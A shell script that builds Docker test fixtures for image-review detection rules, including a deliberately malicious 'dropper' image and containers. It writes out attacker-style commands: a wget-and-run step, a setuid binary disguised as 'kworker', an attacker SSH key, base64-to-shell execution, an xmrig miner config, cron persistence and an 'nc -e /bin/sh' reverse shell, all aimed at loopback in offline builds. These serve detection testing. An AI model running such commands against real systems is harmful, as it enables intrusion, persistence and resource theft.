#!/bin/sh
# Regenerates the image / container-state fixtures of the docker rules from a real dockerd
# (20.10 here): image inspect, history, images, ps, diff, volumes and a `docker save` archive.
# Run as root with dockerd running. Builds need no network: every image is built FROM the
# offline cf-fixture/busybox:1 (scripts/make-docker-fixtures.sh makes it) with `--network none`,
# so the "downloads" in the dropper's history fail at once inside the build's own loopback and
# nothing leaves the machine. Containers holding attacker-like commands are created, never
# started; everything this script creates is removed at the end.
set -eu
root=$(cd "$(dirname "$0")/.." && pwd)
out=$root/test/fixtures/docker
prefix=cf-fixture
base=cf-fixture/busybox:1
clean=cf-fixture/clean:1
dropper=cf-fixture/dropper:1
tiny_base=cf-fixture/tiny-base:1
tiny=cf-fixture/tiny:1
tmp=$(mktemp -d)

cleanup() {
  docker ps -aq --filter "name=^${prefix}-an-" | xargs -r docker rm -f >/dev/null 2>&1 || true
  docker volume rm -f "$prefix-an-data" >/dev/null 2>&1 || true
  docker image rm -f "$clean" "$dropper" "$tiny" "$tiny_base" >/dev/null 2>&1 || true
  rm -rf "$tmp"
}
trap cleanup EXIT INT TERM
docker image inspect "$base" >/dev/null 2>&1 || sh "$root/scripts/make-docker-fixtures.sh"
cleanup
tmp=$(mktemp -d)

# A clean image: one small application layer, a non-root user.
mkdir -p "$tmp/clean"
cat >"$tmp/clean/Dockerfile" <<DOCKERFILE
FROM $base
LABEL org.opencontainers.image.title="cf fixture web"
RUN mkdir -p /app && echo hello > /app/index.txt
USER 1000:1000
CMD ["sleep", "3600"]
DOCKERFILE
DOCKER_BUILDKIT=0 docker build -q --network none -t "$clean" "$tmp/clean" >/dev/null

# A dropper: every step an image review looks for. The payload is a two-line shell script.
mkdir -p "$tmp/dropper"
printf '#!/bin/sh\n# stand-in for a downloaded implant\necho implant-ran\n' >"$tmp/dropper/payload.sh"
cat >"$tmp/dropper/Dockerfile" <<DOCKERFILE
FROM $base
LABEL org.opencontainers.image.title="cf fixture dropper"
RUN mkdir -p /usr/bin && /bin/busybox --install -s /usr/bin
COPY payload.sh /tmp/payload.sh
RUN (wget -q -O /tmp/i.sh http://127.0.0.1:9/i.sh && sh /tmp/i.sh; rm -f /tmp/i.sh) || true
RUN mkdir -p /usr/local/bin && cp /tmp/payload.sh /usr/local/bin/kworker && chmod 4755 /usr/local/bin/kworker && rm -f /tmp/payload.sh
RUN mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGNmLWZpeHR1cmUtbm90LWEtcmVhbC1rZXk attacker@c2' >> /root/.ssh/authorized_keys
RUN echo ZWNobyBoZWxsbw== | base64 -d | sh
RUN mkdir -p /opt/drop && chmod 777 /opt/drop
RUN echo 'xmrig --donate-level 1 -o stratum+tcp://127.0.0.1:3333 -u wallet' > /opt/drop/run.conf
RUN dd if=/dev/zero of=/opt/cache.bin bs=1024 count=12288 2>/dev/null
CMD ["/bin/sh", "-c", "/usr/local/bin/kworker; sleep 3600"]
DOCKERFILE
DOCKER_BUILDKIT=0 docker build -q --network none -t "$dropper" "$tmp/dropper" >/dev/null

docker volume create "$prefix-an-data" >/dev/null
# plain: default settings from the clean image (the "nothing at SUSPICIOUS" baseline)
docker run -d --name "$prefix-an-web" "$clean" >/dev/null
# writer: root in a busybox container, writes where persistence lives (shows in docker diff)
docker run -d --name "$prefix-an-writer" -v "$prefix-an-data:/etc/app" "$base" sh -c \
  'mkdir -p /etc/cron.d /root/.ssh /usr/local/bin /tmp; echo "* * * * * root /tmp/.x" > /etc/cron.d/sync; echo key >> /root/.ssh/authorized_keys; cp /bin/busybox /usr/local/bin/netstat; cp /bin/busybox /tmp/.x; chmod +x /tmp/.x; echo log > /tmp/app.log; sleep 3600' >/dev/null
# dropper container: reverse shell command, created only; shares the named volume
docker create --name "$prefix-an-dropper" -v "$prefix-an-data:/data" "$dropper" \
  sh -c 'nc 127.0.0.1 4444 -e /bin/sh' >/dev/null
sleep 2

mkdir -p "$out/images"
ids() { docker image inspect -f '{{.Id}}' "$1" | sed 's/^sha256://'; }
docker image inspect "$clean" >"$out/images/clean-inspect.json"
docker image inspect "$dropper" >"$out/images/dropper-inspect.json"
docker history --no-trunc --format '{{json .}}' "$clean" >"$out/images/clean-history.jsonl"
docker history --no-trunc --format '{{json .}}' "$dropper" >"$out/images/dropper-history.jsonl"
docker images --digests --no-trunc --format '{{json .}}' | grep '"cf-fixture/' >"$out/images.jsonl"
docker ps -a --no-trunc --format '{{json .}}' --filter "name=^${prefix}-an-" >"$out/ps.jsonl"
docker diff "$prefix-an-writer" >"$out/diff-writer.txt"
docker diff "$prefix-an-web" >"$out/diff-web.txt" || true
docker inspect "$prefix-an-web" "$prefix-an-writer" "$prefix-an-dropper" >"$out/inspect-analysis.json"
docker volume inspect "$prefix-an-data" >"$out/volumes-inspect.json"
docker save "$dropper" | gzip -9n >"$out/save-dropper.tar.gz"
# A clean archive small enough to keep: an imported rootfs of text files plus one COPY layer.
mkdir -p "$tmp/tiny/rootfs/etc" "$tmp/tiny/ctx"
printf 'ID=cf-fixture\nNAME="cf fixture tiny"\n' >"$tmp/tiny/rootfs/etc/os-release"
tar -C "$tmp/tiny/rootfs" -cf "$tmp/tiny/rootfs.tar" .
docker import "$tmp/tiny/rootfs.tar" "$tiny_base" >/dev/null
echo '<h1>hello</h1>' >"$tmp/tiny/ctx/index.html"
printf 'FROM %s\nCOPY index.html /srv/www/index.html\n' "$tiny_base" >"$tmp/tiny/ctx/Dockerfile"
DOCKER_BUILDKIT=0 docker build -q --network none -t "$tiny" "$tmp/tiny/ctx" >/dev/null
docker save "$tiny" | gzip -9n >"$out/save-clean.tar.gz"
echo "wrote fixtures under $out" >&2
